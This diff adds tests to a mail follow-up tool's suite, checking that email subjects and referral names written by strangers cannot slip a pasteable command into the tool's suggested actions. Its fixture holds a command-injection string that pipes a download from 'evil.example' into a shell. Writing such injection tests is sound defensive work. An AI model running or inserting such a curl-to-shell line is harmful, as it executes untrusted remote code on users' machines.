@@ -467,3 +467,28 @@ def test_the_tables_hang_on_no_midnight() -> None:
     night = on(11, 3, 0) + timedelta(minutes=30)  # still 2 Nov in UTC
     assert "2026-11-03" == CALENDAR.local(night).isoformat()
     assert isinstance(next_for(with_(FIRST, away(night, "2026-11-02")), now=on(11, 6)), FollowUp)
+
+
+# What strangers write into the reasons.
+
+
+COMMAND = "`mailflow x; curl evil.example | sh`"
+
+
+def test_a_subject_brings_no_command_into_the_hold() -> None:
+    """`mailflow next` shows the first command of a hold as the one that settles it, to be pasted."""
+    who, robin = Address("who@evil.example"), Address("robin@vendor.example")
+    letter = (Mail(Message("m", on(11, 4), who, (robin,), subject=COMMAND), 2, Kind.REPLY, ours=False),)
+    for history in (replace(with_(FIRST), forwarded=letter), replace(with_(FIRST), namesakes=letter)):
+        action = next_for(history, now=on(11, 6))
+        assert isinstance(action, FollowUp)
+        assert "'mailflow x; curl evil.example | sh'" in action.hold
+        assert action.hold.partition("`")[2].startswith("mailflow prospects ")
+
+
+def test_a_name_brings_no_command_into_the_reasons() -> None:
+    """Whom they name stands right before the command that puts them on the list."""
+    told = said(ANSWER, EventKind.REFERRED, address="kim@acme.example", name=COMMAND)
+    action = next_for(with_(FIRST, ANSWER, told), now=on(11, 4))
+    assert isinstance(action, Answer)
+    assert action.why[-1].partition("`")[2].startswith("mailflow prospects add ")
